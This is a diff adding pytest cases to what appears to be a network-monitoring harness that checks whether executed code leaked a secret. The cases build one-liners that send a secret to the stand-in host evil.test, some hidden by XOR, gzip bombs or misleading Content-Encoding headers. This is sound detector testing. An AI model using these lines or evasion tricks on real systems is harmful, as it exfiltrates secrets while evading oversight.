@@ -258,6 +258,40 @@ def test_urgent_bytes_are_read_like_others(measure: Measure, port: int, before: 
     assert measure(*python(code)).secret_left is CheckState.MET
 
 
+HIDDEN = {
+    "no-text": ("bytes(byte ^ 0x95 for byte in secret)", "identity"),
+    "coding-unknown": ("bytes(byte ^ 0x55 for byte in secret)", "br"),
+    "bomb": ("gzip.compress(bytes(9 << 20) + secret)", "gzip"),
+    "bomb-of-text": ("gzip.compress(b' ' * (9 << 20) + secret)", "gzip"),
+    "no-gzip": ("bytes(byte ^ 0x95 for byte in secret)", "gzip"),
+    "no-text-in-gzip": ("gzip.compress(bytes(byte ^ 0x95 for byte in secret))", "gzip"),
+}
+
+
+@pytest.mark.parametrize("way", sorted(HIDDEN))
+def test_a_body_that_cannot_be_searched_leaves_doubt_about_secrets_alone(measure: Measure, way: str) -> None:
+    body, coding = HIDDEN[way]
+    code = (
+        f"import gzip, urllib.request as u; secret = b'{SECRET}'; body = {body}\n"
+        f"u.urlopen(u.Request('https://evil.test/in', body, {{'Content-Encoding': '{coding}'}}))"
+    )
+    seen = measure(*python(code))
+    (request,) = seen.on("request")
+    assert (request.detail["plain"], request.detail["carries"]) == (False, [])
+    assert seen.secret_left is CheckState.UNASSESSED
+    assert seen.check(CheckKind.HTTP_REQUEST, host="evil.test", contains="nothing") is CheckState.UNASSESSED
+    assert seen.check(CheckKind.HTTP_REQUEST, host="evil.test", method="DELETE") is CheckState.UNMET
+    assert seen.check(CheckKind.HTTP_REQUEST, host="other.test") is CheckState.UNMET
+
+
+@pytest.mark.parametrize(
+    "body", ["gzip.compress(b'a report')", "b''", "'caf\u00e9'.encode()"], ids=["gzip", "empty", "utf8"]
+)
+def test_a_body_that_was_searched_leaves_none(measure: Measure, body: str) -> None:
+    code = f"import gzip, urllib.request as u; u.urlopen(u.Request('https://api.test/in', {body}))"
+    assert measure(*python(code)).secret_left is CheckState.UNMET
+
+
 GOODBYES = {
     "request": ("80", "GET / HTTP/1.0\\r\\n\\r\\n"),
     "asked-to-close": ("80", "GET / HTTP/1.1\\r\\nhost: evil.test\\r\\nconnection: close\\r\\n\\r\\n"),
